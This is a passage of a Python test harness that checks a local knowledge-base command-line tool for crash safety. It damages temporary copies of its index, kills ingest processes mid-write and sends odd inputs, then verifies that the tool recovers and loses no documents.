"""An attack campaign on the `kb` command line (issue 22): five families of fresh cases, run as a user would, each
in its own copy of an index built from documents of two folders and named with --index somewhere unusual.

  damage       the index folder damaged at rest: every kind of file of the current generation, CURRENT, SOURCES,
               .lock, whole generation folders, the previous generation; deleted, emptied, truncated, garbled,
               bit-flipped, replaced by a folder, swapped with the previous generation's file, appended to.
               Opening must fail with ONE line whose advice is a command in backticks; that command, run exactly
               as printed (shlex.split) from another working directory (one holding a decoy `corpus/`), must
               succeed, and then `kb ls` lists every document of both folders and `kb ask` finds them. (Damage
               outside what a reader needs may instead leave the index opening as before; then the next ingest
               must work and lose nothing.)
  kills        `kb ingest` (also repair, rm, ingest --replace, a first ingest) killed with SIGKILL (or SIGINT) at
               many moments: the index opens with the previous content or the new one, never neither or a mix;
               the same command run again completes and leaves the index folder tidy.
  input        odd queries, odd options and odd files: exit 0 with output, or exit 1/2 with exactly one line on
               stderr starting `kb: `; never a traceback; a refused command leaves `kb ls` and CURRENT as they were.
  concurrency  two or three writers at once, writers with rm / --replace / repair, readers asking during writes.
  lock         the .lock file deleted (or replaced) while a writer runs, with and without a second writer: each
               writer finishes or stops with one line saying to run again; after running again nothing is lost.

Everything happens in a temporary folder; the product is run through its installed `kb` command (the one beside
this Python), with the fast hash embedder by default. One line per case, `PASS|FAIL family: case: detail`, then
the counts per family and overall; the exit code is 1 if any case failed.

    .venv/bin/python bench/attack.py                 # the campaign (208 cases; about 9 min on 2 cores)
    .venv/bin/python bench/attack.py --full          # every file of the generation with every kind of damage
    .venv/bin/python bench/attack.py --only lock --keep -v     # some cases, keep the folder, show the commands
"""
from __future__ import annotations

import argparse
import json
import os
import random
import re
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
GALLERY = ROOT / "tests" / "data" / "gallery"

# the documents, by folder (doc ids are the file names' stems)
FOLDERS = {
    "corpus": ["gov-work-report-2024"],
    "other": ["notice-zhejiang-zhandao-wajue"],
    "third": ["central-no1-2018", "gov-work-report-2023", "national-15th-plan"],
    "fourth": ["city-15th-plan-guangzhou", "province-15th-plan-beijing"],
    "fifth": ["implementation-opinion-anhui-rcep"],
}
A, B = FOLDERS["corpus"][0], FOLDERS["other"][0]
BASE = {A, B}
C, D, E = set(FOLDERS["third"]), set(FOLDERS["fourth"]), set(FOLDERS["fifth"])
Q_A = "2024年国内生产总值增长的预期目标"           # the corpus/ document
Q_B = "城市道路挖掘修复费"                          # the other/ document (the one a careless repair drops)
QUESTION = "问题"

# unusual names for the index: spaces, Chinese, quotes, a dollar, brackets (each case gets one)
INDEX_NAMES = ["索引 目录/我的 index", "规划 库/v1 (副本)", "知识 库/it's a \"kb\" $HOME", "深 层/目 录/索 引 kb",
               "数据/kb [2024] & 备份"]

TRACEBACK = "Traceback (most recent call last)"
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


# ---------------------------------------------------------------- running kb
def _kb_argv() -> list[str]:
    exe = Path(sys.executable).parent / "kb"
    if exe.exists():
        return [str(exe)]
    found = shutil.which("kb")
    return [found] if found else [sys.executable, "-m", "kb.cli"]


KB = _kb_argv()


def make_env(model: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("KB_")}
    env["KB_MODEL"] = model
    env["PATH"] = f"{Path(KB[0]).parent}{os.pathsep}{env.get('PATH', '')}"
    env["PYTHONPATH"] = str(ROOT)
    env.pop("PYTHONWARNINGS", None)
    return env


ENV: dict[str, str] = {}


@dataclass
class Run:
    cmd: list
    cwd: Path
    rc: int
    out: str
    err: str
    secs: float

    def show(self, limit: int = 300) -> str:
        cmd = " ".join(shlex.quote(os.fsdecode(c)) if not isinstance(c, bytes) else repr(c) for c in self.cmd)
        text = (self.err.strip() or self.out.strip()).replace("\n", "⏎")
        return f"[cd {shlex.quote(str(self.cwd))} && {cmd}] → rc {self.rc}: {text[:limit]!r}"


def popen(args: list, cwd: Path, **kw) -> subprocess.Popen:
    argv = KB + list(args)
    if any(isinstance(a, bytes) for a in argv):
        argv = [a if isinstance(a, bytes) else os.fsencode(a) for a in argv]
    return subprocess.Popen(argv, cwd=cwd, env=ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            stdin=subprocess.PIPE if "input" in kw else subprocess.DEVNULL,
                            start_new_session=True)


def kb(args: list, cwd: Path, timeout: float = 180, input: bytes | None = None, argv0: list | None = None) -> Run:
    """Run `kb ARGS` in cwd; output decoded as UTF-8 (undecodable bytes shown as U+FFFD)."""
    argv = (argv0 or KB) + list(args)
    if any(isinstance(a, bytes) for a in argv):
        argv = [a if isinstance(a, bytes) else os.fsencode(a) for a in argv]
    t = time.perf_counter()
    p = subprocess.Popen(argv, cwd=cwd, env=ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                         stdin=subprocess.PIPE if input is not None else subprocess.DEVNULL, start_new_session=True)
    try:
        out, err = p.communicate(input=input, timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(p.pid, signal.SIGKILL)
        out, err = p.communicate()
        return Run(list(args), cwd, 124, out.decode("utf-8", "replace"),
                   f"(hung: killed after {timeout:.0f} s) " + err.decode("utf-8", "replace"), time.perf_counter() - t)
    return Run(list(args), cwd, p.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"),
               time.perf_counter() - t)


class Failed(Exception):
    """A case's check did not hold: its message is the detail printed."""


def check(cond: bool, what: str, run: Run | None = None) -> None:
    if not cond:
        raise Failed(what + (f": {run.show()}" if run is not None else ""))


def no_traceback(r: Run) -> None:
    check(TRACEBACK not in r.out + r.err, "traceback", r)


def one_line(r: Run, codes=(1, 2)) -> None:
    """Refused: exit 1/2, exactly one line on stderr starting `kb: `, no traceback."""
    no_traceback(r)
    check(r.rc in codes, f"exit {r.rc}, expected one of {codes}", r)
    check(r.err.startswith("kb: ") and r.err.endswith("\n") and r.err.count("\n") == 1,
          f"stderr is not one line starting 'kb: ' ({r.err.count(chr(10))} lines)", r)


def answered(r: Run) -> None:
    """Accepted: exit 0 with output; stderr only `kb: ` lines (warnings); no traceback."""
    no_traceback(r)
    check(r.rc == 0, "exit code", r)
    check(r.out.strip() != "", "exit 0 without output", r)
    check(all(l.startswith("kb: ") for l in r.err.splitlines()), "stderr line not starting 'kb: '", r)


def ok_or_one_line(r: Run) -> str:
    no_traceback(r)
    if r.rc == 0:
        answered(r)
        return "exit 0"
    one_line(r)
    return f"refused: {r.err.strip()[:90]}"


def docs(idx: str, cwd: Path) -> tuple[set[str], Run]:
    r = kb(["--index", idx, "ls"], cwd)
    no_traceback(r)
    check(r.rc == 0, "kb ls fails", r)
    return {l.split("\t")[0] for l in r.out.splitlines() if l.strip()}, r


def finds(idx: str, cwd: Path, q: str, doc: str) -> None:
    """`kb ask --json q` works and a hit comes from doc."""
    r = kb(["--index", idx, "ask", "--json", q], cwd)
    no_traceback(r)
    check(r.rc == 0, "kb ask fails", r)
    try:
        hits = json.loads(r.out)["hits"]
    except (ValueError, KeyError):
        raise Failed("kb ask --json is not JSON: " + r.show()) from None
    check(any(h.get("doc_id") == doc for h in hits), f"kb ask {q!r} finds nothing of {doc}", r)


def advice_of(r: Run) -> str:
    m = re.search(r"`([^`]+)`", r.err)
    check(m is not None, "no command in backticks in the refusal", r)
    return m.group(1)


def run_advice(advice: str, cwd: Path) -> Run:
    argv = shlex.split(advice)
    check(argv[0] == "kb", f"advice is not a kb command: {advice!r}")
    return kb(argv[1:], cwd)


def tidy(idx_path: Path) -> None:
    """Only CURRENT, .lock, SOURCES and at most two generations; no temp files beside."""
    names = sorted(p.name for p in idx_path.iterdir())
    gens = [n for n in names if re.fullmatch(r"g\d{6,}", n)]
    extra = set(names) - set(gens) - {"CURRENT", ".lock", "SOURCES"}
    check(not extra and len(gens) <= 2, f"index folder not tidy: {names}")
    stray = [p.name for p in idx_path.parent.iterdir() if p.name.startswith(f".{idx_path.name}.")]
    check(not stray, f"leftovers beside the index: {stray}")


# ---------------------------------------------------------------- the site
@dataclass
class Site:
    root: Path                                 # the campaign's temporary folder
    site: Path                                 # holds corpus/, other/, third/ … (the documents' folders)
    pristine: Path                             # the two-folder index, built once
    elsewhere: Path                            # another working directory, with a decoy corpus/
    ls_pristine: str = ""
    t_ingest: float = 2.5
    counter: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def new_case_dir(self) -> Path:
        with self.lock:
            self.counter += 1
            n = self.counter
        d = self.root / "cases" / f"c{n:04d}"
        d.mkdir(parents=True)
        return d

    def copy_index(self, relative: bool | None = None, name: str | None = None) -> tuple[Path, str, Path]:
        """A copy of the pristine index under a new case folder: (index path, the --index argument, case cwd)."""
        case = self.new_case_dir()
        n = int(case.name[1:])
        name = name or INDEX_NAMES[n % len(INDEX_NAMES)]
        idx = case / name
        idx.parent.mkdir(parents=True, exist_ok=True)
        shutil.copytree(self.pristine, idx, symlinks=True)
        rel = (n % 2 == 0) if relative is None else relative
        return idx, (name if rel else str(idx)), case


def build_site(root: Path) -> Site:
    site = root / "站点 site"
    for folder, names in FOLDERS.items():
        (site / folder).mkdir(parents=True)
        for n in names:
            shutil.copy(GALLERY / f"{n}.txt", site / folder / f"{n}.txt")
    elsewhere = root / "别的 目录 elsewhere"
    (elsewhere / "corpus").mkdir(parents=True)
    (elsewhere / "corpus" / "decoy.txt").write_text("诱饵文件\n\n第一章 总则\n\n这是一个不应被索引的诱饵文档。\n", encoding="utf-8")
    pristine = root / "原始 索引" / "pristine index"
    pristine.parent.mkdir(parents=True)
    for folder in ("corpus", "other/"):
        r = kb(["--index", str(pristine), "ingest", folder], site)
        if r.rc != 0:
            raise SystemExit(f"cannot build the campaign's index: {r.show(2000)}")
    s = Site(root, site, pristine, elsewhere)
    got, r = docs(str(pristine), site)
    if got != BASE:
        raise SystemExit(f"the campaign's index lists {got}, expected {BASE}")
    s.ls_pristine = r.out
    probe = root / "probe"                                # how long an ingest of third/ takes (for the kill moments)
    shutil.copytree(pristine, probe)
    t = time.perf_counter()
    r = kb(["--index", str(probe), "ingest", str(site / "third")], site)
    s.t_ingest = time.perf_counter() - t
    shutil.rmtree(probe)
    if r.rc != 0:
        raise SystemExit(f"cannot ingest third/: {r.show(2000)}")
    return s


# ---------------------------------------------------------------- cases
@dataclass
class Case:
    family: str
    name: str
    fn: Callable[[Site], str]
    serial: bool = False        # run alone, after the others
    heavy: bool = False         # only with --full (bench/attack_text.py's 30 MB text)


CASES: list[Case] = []          # the cases registered by this run's campaign (this one or bench/attack_text.py)


def case(family: str, name: str, serial: bool = False, heavy: bool = False):
    def deco(fn):
        CASES.append(Case(family, name, fn, serial, heavy))
        return fn
    return deco


def run_cases(cases: list[Case], s, families: tuple[str, ...], jobs: int, verbose: bool, t0: float,
              first: Callable[[Case], bool] = lambda c: False, shown: Callable[[str], str] = lambda line: line) -> int:
    """Run the cases, `jobs` at once (those `first` picks started first; the serial ones alone, afterwards), one line
    each (`shown` makes it safe to print), then the counts per family; 0 when every case passed, else 1."""
    results: dict[str, list[bool]] = {}
    secs: dict[str, float] = {}
    out_lock = threading.Lock()

    def run_case(c: Case) -> None:
        t = time.perf_counter()
        try:
            detail, ok = c.fn(s), True
        except Failed as e:
            detail, ok = str(e), False
        except Exception as e:  # noqa: BLE001 — a harness error is a failed case too, said as such
            import traceback
            detail, ok = f"harness error {type(e).__name__}: {e} | {traceback.format_exc(limit=4)!r}", False
        dt = time.perf_counter() - t
        with out_lock:
            results.setdefault(c.family, []).append(ok)
            secs[c.family] = secs.get(c.family, 0.0) + dt
            line = shown(f"{'PASS' if ok else 'FAIL'} {c.family}: {c.name}: {detail}")
            print(line if verbose or not ok else line[:400], flush=True)

    parallel = [c for c in cases if not c.serial]
    with ThreadPoolExecutor(max_workers=max(1, jobs)) as pool:
        list(pool.map(run_case, [c for c in parallel if first(c)] + [c for c in parallel if not first(c)]))
    for c in cases:
        if c.serial:
            run_case(c)
    print()
    width = max(map(len, (*families, "total"))) + 1
    total_ok = total = 0
    for fam in families:
        if fam in results:
            r = results[fam]
            total_ok += sum(r)
            total += len(r)
            print(f"{fam:{width}s} {sum(r):4d} passed {len(r) - sum(r):4d} failed  ({secs[fam]:.0f} s of case time)")
    print(f"{'total':{width}s} {total_ok:4d} passed {total - total_ok:4d} failed  in {time.perf_counter() - t0:.0f} s")
    return 0 if total_ok == total else 1


# ================================================================ 1. damage at rest
def _flip(raw: bytes, pos: int, bit: int) -> bytes:
    return raw[:pos] + bytes([raw[pos] ^ (1 << bit)]) + raw[pos + 1:]


def damage_file(p: Path, how: str, rng: random.Random, prev_gen: Path | None = None, rel: str = "") -> str:
    """Damage one file in place; returns what was done."""
    raw = p.read_bytes() if p.is_file() else b""
    if how == "delete":
        p.unlink()
        return "deleted"
    if how == "empty":
        p.write_bytes(b"")
        return "emptied"
    if how == "truncate":
        k = rng.choice([1, len(raw) // 2, max(1, len(raw) - 1), rng.randint(1, max(1, len(raw) - 1))]) if len(raw) > 1 else 0
        p.write_bytes(raw[:k])
        return f"truncated to {k} of {len(raw)} bytes"
    if how == "garble":
        if rng.random() < 0.5 or len(raw) < 64:
            p.write_bytes(bytes(rng.randrange(256) for _ in range(max(len(raw), 1))))
            return f"garbled (all {len(raw)} bytes random)"
        at = rng.randrange(0, len(raw) - 32)
        p.write_bytes(raw[:at] + bytes(rng.randrange(256) for _ in range(32)) + raw[at + 32:])
        return f"garbled (32 bytes at {at})"
    if how == "bitflip":
        if not raw:
            p.write_bytes(b"\x01")
            return "a zero-byte file given one byte"
        pos, bit = rng.randrange(len(raw)), rng.randrange(8)
        p.write_bytes(_flip(raw, pos, bit))
        return f"bit {bit} of byte {pos}/{len(raw)} flipped"
    if how == "folder":
        p.unlink()
        p.mkdir()
        if rng.random() < 0.5:
            (p / "inside.txt").write_text("x")
        return "replaced by a folder"
    if how == "stale":
        old = prev_gen / rel if prev_gen else None
        if old is None or not old.is_file() or old.read_bytes() == raw:
            p.write_bytes(raw + b"\n")
            return "one newline appended (no different file in the previous generation)"
        shutil.copy(old, p)
        return "replaced by the previous generation's file"
    if how == "append":
        p.write_bytes(raw + bytes(rng.randrange(256) for _ in range(rng.choice([1, 7, 4096]))))
        return "junk appended"
    raise ValueError(how)


def _current_gen(idx: Path) -> tuple[Path, Path | None]:
    ptr = json.loads((idx / "CURRENT").read_text(encoding="utf-8"))
    return idx / ptr["generation"], (idx / ptr["previous"]) if ptr.get("previous") else None


def damage_outcome(s: Site, idx: Path, arg: str, cwd: Path, *, must_refuse: bool, did: str) -> str:
    """After damage: refused with one line whose advice, run as printed from elsewhere, restores both folders'
    documents; or (must_refuse=False) opening as before, with the next ingest working and losing nothing."""
    r = kb(["--index", arg, "ask", QUESTION], cwd)
    no_traceback(r)
    if r.rc == 0:
        check(not must_refuse, f"{did}: not detected, the damaged index was served", r)
        check(r.out.strip() != "", "exit 0 without output", r)
        got, _ = docs(arg, cwd)
        check(got == BASE, f"{did}: opens but lists {sorted(got)}")
        w = kb(["--index", str(idx), "ingest", str(s.site / "fifth")], s.elsewhere)  # the next writer, from elsewhere
        no_traceback(w)
        check(w.rc == 0, f"{did}: opens, but the next ingest fails", w)
        got, _ = docs(arg, cwd)
        check(got == BASE | E, f"{did}: after the next ingest the index lists {sorted(got)}")
        finds(arg, cwd, Q_B, B)
        return f"{did}; still opens, next ingest ok ({len(got)} docs)"
    one_line(r, codes=(1,))
    advice = advice_of(r)
    fix = run_advice(advice, s.elsewhere)
    no_traceback(fix)
    check(fix.rc == 0, f"{did}: the advice `{advice}` run from another folder fails", fix)
    got, _ = docs(arg, cwd)
    check(got == BASE, f"{did}: after `{advice}` the index lists {sorted(got)}, expected {sorted(BASE)}")
    finds(arg, cwd, Q_B, B)
    verb = advice.split()[-1] if advice.split()[-1] in ("repair",) else advice[:40]
    return f"{did}; refused, `… {verb}` from elsewhere restored both folders"


ALL_MODES = ["delete", "empty", "truncate", "garble", "bitflip", "folder", "stale", "append"]
CORE_MODES = ["delete", "empty", "truncate", "garble", "bitflip", "folder"]
# every kind of damage on the manifest and the vectors; half of them on passages and documents; one kind on each
# other file, in turn (--full: every kind on every file)
KEY_FILES = {"manifest.json": ALL_MODES, "embeddings.npy": ["delete", "truncate", "bitflip", "folder", "stale"],
             "passages.jsonl": ["empty", "garble", "append"], "documents.jsonl": ["delete", "truncate", "bitflip"]}


def register_damage(files: list[str], full: bool, seed: int) -> None:
    rotate = 0
    for f in ["manifest.json"] + sorted(files):
        if full:
            modes = ALL_MODES
        elif f in KEY_FILES:
            modes = KEY_FILES[f]
        else:
            modes = [CORE_MODES[rotate % len(CORE_MODES)]]
            rotate += 1
        for how in modes:
            def fn(s: Site, f=f, how=how) -> str:
                rng = random.Random(f"{seed}:{f}:{how}")
                idx, arg, cwd = s.copy_index()
                gen, prev = _current_gen(idx)
                did = damage_file(gen / f, how, rng, prev, f)
                return damage_outcome(s, idx, arg, cwd, must_refuse=True, did=did)
            case("damage", f"generation/{f} {how}")(fn)


def _ptr_edit(idx: Path, **change) -> None:
    ptr = json.loads((idx / "CURRENT").read_text(encoding="utf-8"))
    ptr.update(change)
    (idx / "CURRENT").write_text(json.dumps(ptr) + "\n", encoding="utf-8")


def _sha(p: Path) -> str:
    import hashlib
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _current_damage(idx: Path, how: str, rng: random.Random) -> tuple[str, bool]:
    """Damage CURRENT; returns (what, must_refuse)."""
    cur = idx / "CURRENT"
    raw = cur.read_bytes()
    ptr = json.loads(raw)
    gen, prev = _current_gen(idx)
    if how == "bitflip in the generation name":
        i = raw.index(ptr["generation"].encode()) + len(ptr["generation"]) - 1
        cur.write_bytes(_flip(raw, i, rng.choice([0, 1, 2])))
        return "a bit of the generation's name in CURRENT flipped", True
    if how == "bitflip in the checksum":
        i = raw.index(ptr["manifest_sha256"].encode()) + rng.randrange(64)
        cur.write_bytes(_flip(raw, i, 0))
        return "a bit of the checksum in CURRENT flipped", True
    if how == "bitflip in the syntax":
        i = raw.index(b'"generation"') - 1 if rng.random() < 0.5 else raw.index(b":")
        cur.write_bytes(_flip(raw, i, 1))
        return f"a bit of CURRENT's JSON syntax flipped (byte {i})", True
    if how == "names a missing generation":
        _ptr_edit(idx, generation="g000777")
        return "CURRENT names g000777, which is not there", True
    if how == "names the previous generation":
        _ptr_edit(idx, generation=prev.name)
        return "CURRENT names the previous generation with the current one's checksum", True
    if how == "checksum of the previous manifest":
        _ptr_edit(idx, manifest_sha256=_sha(prev / "manifest.json"))
        return "CURRENT carries the previous manifest's checksum", True
    if how == "null":
        cur.write_text("null\n")
        return "CURRENT is JSON null", True
    if how == "a list":
        cur.write_text(json.dumps([ptr]))
        return "CURRENT is a JSON list", True
    if how == "a symlink to nowhere":
        cur.unlink()
        cur.symlink_to(idx / "no-such-pointer")
        return "CURRENT is a dangling symlink", True
    if how == "truncate":                    # into the content (a trailing newline is not part of the pointer)
        k = rng.randrange(1, len(raw.rstrip()))
        cur.write_bytes(raw[:k])
        return f"CURRENT truncated to {k} of {len(raw)} bytes", True
    what = damage_file(cur, how, rng)
    return f"CURRENT {what}", True


CURRENT_DAMAGE = ["delete", "empty", "truncate", "garble", "bitflip in the generation name", "bitflip in the checksum",
                  "bitflip in the syntax", "folder", "names a missing generation", "names the previous generation",
                  "checksum of the previous manifest", "null", "a list", "a symlink to nowhere"]
CURRENT_QUICK = ["delete", "truncate", "garble", "bitflip in the generation name", "bitflip in the checksum", "folder",
                 "names a missing generation", "a symlink to nowhere"]
SIDE_MODES = ["delete", "empty", "truncate", "garble", "bitflip", "folder", "dangling symlink", "symlink loop"]
SIDE_QUICK = {"SOURCES": ["delete", "garble", "folder"], ".lock": ["delete", "folder", "dangling symlink"]}


def register_pointer_damage(seed: int, full: bool) -> None:
    for how in (CURRENT_DAMAGE if full else CURRENT_QUICK):
        def fn(s: Site, how=how) -> str:
            idx, arg, cwd = s.copy_index()
            did, must = _current_damage(idx, how, random.Random(f"{seed}:CURRENT:{how}"))
            return damage_outcome(s, idx, arg, cwd, must_refuse=must, did=did)
        case("damage", f"CURRENT {how}")(fn)

    for target in ("SOURCES", ".lock"):
        for how in (SIDE_MODES if full else SIDE_QUICK[target]):
            def fn(s: Site, target=target, how=how) -> str:
                idx, arg, cwd = s.copy_index()
                p = idx / target
                rng = random.Random(f"{seed}:{target}:{how}")
                if how == "dangling symlink":
                    p.unlink()
                    p.symlink_to(idx / "gone" / "nowhere")
                    did = f"{target} a dangling symlink"
                elif how == "symlink loop":
                    p.unlink()
                    p.symlink_to(idx / f"{target}.loop")
                    (idx / f"{target}.loop").symlink_to(p)
                    did = f"{target} a symlink loop"
                else:
                    if how == "bitflip" and p.stat().st_size == 0:
                        p.write_bytes(b"\x00" * 8)
                    did = f"{target} {damage_file(p, how, rng)}"
                return damage_outcome(s, idx, arg, cwd, must_refuse=False, did=did)
            case("damage", f"{target} {how}")(fn)

    def gen_case(name: str, must: bool):
        def deco(act):
            def fn(s: Site) -> str:
                idx, arg, cwd = s.copy_index()
                gen, prev = _current_gen(idx)
                did = act(idx, gen, prev)
                return damage_outcome(s, idx, arg, cwd, must_refuse=must, did=did)
            case("damage", name)(fn)
            return act
        return deco

    @gen_case("current generation folder deleted", True)
    def _(idx, gen, prev):
        shutil.rmtree(gen)
        return "current generation deleted"

    @gen_case("both generation folders deleted", True)
    def _(idx, gen, prev):
        shutil.rmtree(gen), shutil.rmtree(prev)
        return "both generations deleted (only CURRENT, SOURCES, .lock left)"

    @gen_case("current generation renamed", True)
    def _(idx, gen, prev):
        gen.rename(idx / "g000555")
        return "current generation renamed g000555"

    @gen_case("current generation replaced by a file", True)
    def _(idx, gen, prev):
        shutil.rmtree(gen)
        gen.write_bytes(b"not a folder")
        return "current generation replaced by a file"

    @gen_case("current generation's bm25 folder deleted", True)
    def _(idx, gen, prev):
        shutil.rmtree(gen / "bm25_words")
        return "current generation's bm25_words/ deleted"

    @gen_case("SOURCES and the previous generation deleted", False)
    def _(idx, gen, prev):
        shutil.rmtree(prev), (idx / "SOURCES").unlink()
        return "SOURCES and the previous generation deleted (the current one intact)"

    @gen_case("every file of the current generation emptied", True)
    def _(idx, gen, prev):
        for p in gen.rglob("*"):
            if p.is_file():
                p.write_bytes(b"")
        return "every file of the current generation emptied"

    @gen_case("previous generation deleted", False)
    def _(idx, gen, prev):
        shutil.rmtree(prev)
        return "previous generation deleted"

    @gen_case("a stray unfinished generation", False)
    def _(idx, gen, prev):
        (idx / "g000003").mkdir()
        (idx / "g000003" / "passages.jsonl").write_text('{"id": "half', encoding="utf-8")
        (idx / ".CURRENT.tmp-99999").write_text("{", encoding="utf-8")
        return "an unfinished generation g000003 and a pointer temp file beside"

    # the advice ignored: the user adds a document from another folder to the damaged index instead
    ignored = {
        "current generation deleted": lambda idx, gen, prev: shutil.rmtree(gen),
        "manifest garbled": lambda idx, gen, prev: (gen / "manifest.json").write_bytes(b"garbage\n"),
        "both generations deleted": lambda idx, gen, prev: (shutil.rmtree(gen), shutil.rmtree(prev)),
        "CURRENT deleted": lambda idx, gen, prev: (idx / "CURRENT").unlink(),
        "passages.jsonl emptied": lambda idx, gen, prev: (gen / "passages.jsonl").write_bytes(b""),
    }
    for what, act in ignored.items():
        def fn(s: Site, what=what, act=act) -> str:
            idx, arg, cwd = s.copy_index()
            gen, prev = _current_gen(idx)
            act(idx, gen, prev)
            w = kb(["--index", arg, "ingest", str(s.site / "fifth")], cwd)
            no_traceback(w)
            if w.rc != 0:
                one_line(w, codes=(1,))
                advice = advice_of(w)
                check(run_advice(advice, s.elsewhere).rc == 0, f"the advice `{advice}` fails")
                again = kb(["--index", arg, "ingest", str(s.site / "fifth")], cwd)
                check(again.rc == 0, "the ingest after the advice fails", again)
                said = "refused with advice; advice, then the ingest, worked"
            else:
                said = "accepted: " + (w.err.strip().splitlines() or [""])[0][:80]
            got, _ = docs(arg, cwd)
            check(got == BASE | E, f"{what}, then `kb ingest fifth/` instead of the advice ({said}): the index lists "
                                   f"{sorted(got)}, expected {sorted(BASE | E)}", w)
            finds(arg, cwd, Q_B, B)
            return f"{what}; {said}; nothing lost"
        case("damage", f"{what}, advice ignored: a plain ingest of another folder")(fn)

    # the index is a regular file / a symlink to a copy
    def fn_file(s: Site) -> str:
        case_dir = s.new_case_dir()
        idx = case_dir / "索引 是 文件"
        idx.write_text("这不是索引\n", encoding="utf-8")
        r = kb(["--index", str(idx), "ask", QUESTION], case_dir)
        one_line(r, codes=(1,))
        w = kb(["--index", str(idx), "ingest", str(s.site / "corpus")], case_dir)
        one_line(w, codes=(1,))
        check(idx.read_text(encoding="utf-8") == "这不是索引\n", "the file named as index was changed")
        return "index path is a file: open and ingest refused with one line, the file untouched"
    case("damage", "index path is a regular file")(fn_file)

    def fn_link(s: Site) -> str:
        idx, arg, cwd = s.copy_index(relative=False)
        link = cwd / "链接 link"
        link.symlink_to(idx)
        gen, _ = _current_gen(idx)
        (gen / "documents.jsonl").write_bytes(b"")
        return damage_outcome(s, link, str(link), cwd, must_refuse=True, did="documents.jsonl emptied, index named via a symlink")
    case("damage", "index named through a symlink, documents.jsonl emptied")(fn_link)


# ================================================================ 2. kills
def _spawn(args: list, cwd: Path) -> subprocess.Popen:
    return popen(args, cwd)


def _kill_after(p: subprocess.Popen, delay: float, sig: int = signal.SIGKILL) -> bool:
    """Signal p after delay seconds; True when it was still running then."""
    try:
        p.wait(timeout=delay)
        return False
    except subprocess.TimeoutExpired:
        pass
    os.killpg(p.pid, sig) if sig == signal.SIGKILL else p.send_signal(sig)
    p.communicate(timeout=60)
    return True


def _gens(idx: Path) -> set[str]:
    try:
        return {p.name for p in idx.iterdir() if re.fullmatch(r"g\d{6,}", p.name)}
    except OSError:
        return set()


def _pointer_bytes(idx: Path) -> bytes:
    try:
        return (idx / "CURRENT").read_bytes()
    except OSError:
        return b""


def _kill_at(p: subprocess.Popen, idx: Path, when: tuple[str, float], sig: int = signal.SIGKILL) -> str:
    """Kill p at a moment of its run: ("wall", s) s seconds after its start; ("gen", s) s seconds after its new
    generation folder appears (the write phase: files, manifest, pointer); ("swap", s) s seconds after CURRENT
    changes (the swap done, the old generation being removed). Says when it was killed, or that it had finished."""
    kind, extra = when
    if kind == "wall":
        return f"killed at {extra:.2f} s" if _kill_after(p, extra, sig) else f"finished before {extra:.2f} s"
    t0, gens, ptr = time.perf_counter(), _gens(idx), _pointer_bytes(idx)
    while p.poll() is None:
        if (kind == "gen" and _gens(idx) - gens) or (kind == "swap" and _pointer_bytes(idx) != ptr):
            seen = time.perf_counter() - t0
            if _kill_after(p, extra, sig):
                return f"killed {extra * 1000:.0f} ms after the {'new generation appeared' if kind == 'gen' else 'swap'} ({seen:.2f} s in)"
            break
        time.sleep(0.001)
    p.communicate(timeout=60)
    return f"finished before the kill ({kind} +{extra * 1000:.0f} ms)"


def _when(w: tuple[str, float]) -> str:
    return f"at {w[1]:.2f} s" if w[0] == "wall" else f"{w[1] * 1000:.0f} ms into the " + (
        "write" if w[0] == "gen" else "clean-up after the swap")


def register_kills(seed: int, t: float) -> None:
    """t: the seconds an ingest of third/ took when the site was built. Some kills at a time of the run; most at a
    moment of the write itself, found by watching the index folder (a new generation folder appears; CURRENT
    changes), so that they land in the write whatever the machine's load."""
    rng = random.Random(f"{seed}:kills")
    moments = [("wall", round(0.15 * t, 2)), ("wall", round(0.5 * t, 2))] + \
              [("gen", x) for x in (0.01, 0.03, 0.1, 0.2, round(rng.uniform(0, 0.3), 3))] + \
              [("swap", 0.0), ("swap", 0.02)]
    for when in moments:
        def fn(s: Site, when=when) -> str:
            idx, arg, cwd = s.copy_index()
            cmd = ["--index", arg, "ingest", str(s.site / "third")]
            said = _kill_at(_spawn(cmd, cwd), idx, when)
            got, _ = docs(arg, cwd)                              # opens (kb ls verifies every file)
            check(got in (BASE, BASE | C), f"{said}: the index lists {sorted(got)}")
            state = "new" if got == BASE | C else "previous"
            again = kb(cmd, cwd)
            no_traceback(again)
            check(again.rc == 0, "the same ingest run again fails", again)
            got, _ = docs(arg, cwd)
            check(got == BASE | C, f"after the rerun the index lists {sorted(got)}")
            finds(arg, cwd, Q_B, B)
            tidy(idx)
            return f"{said}: {state} content served; rerun completed, tidy"
        case("kills", f"SIGKILL ingest third/ {_when(when)}")(fn)

    for when in (("gen", 0.02), ("gen", 0.08)):
        def fn(s: Site, when=when) -> str:
            idx, arg, cwd = s.copy_index()
            gen, _ = _current_gen(idx)
            (gen / "passages.jsonl").write_bytes(b"")
            r0 = kb(["--index", arg, "ask", QUESTION], cwd)
            one_line(r0, codes=(1,))
            advice = advice_of(r0)
            said = _kill_at(popen(shlex.split(advice)[1:], s.elsewhere), idx, when)
            r = kb(["--index", arg, "ask", QUESTION], cwd)
            no_traceback(r)
            if r.rc != 0:
                one_line(r, codes=(1,))
                advice = advice_of(r)
            fix = run_advice(advice, s.elsewhere)
            check(fix.rc == 0, "the advice after a killed repair fails", fix)
            got, _ = docs(arg, cwd)
            check(got == BASE, f"after a killed repair and the advice the index lists {sorted(got)}")
            finds(arg, cwd, Q_B, B)
            return f"repair {said}; the advice then restored both documents"
        case("kills", f"SIGKILL the advised repair {_when(when)}")(fn)

    for when in (("gen", 0.03),):
        def fn(s: Site, when=when) -> str:
            idx, arg, cwd = s.copy_index()
            cmd = ["--index", arg, "rm", B]
            said = _kill_at(popen(cmd, cwd), idx, when)
            r = kb(["--index", arg, "ask", QUESTION], cwd)
            check(r.rc == 0, "after a killed rm the index does not open", r)
            got, _ = docs(arg, cwd)
            check(got in (BASE, {A}), f"after a killed rm the index lists {sorted(got)}")
            if got == BASE:
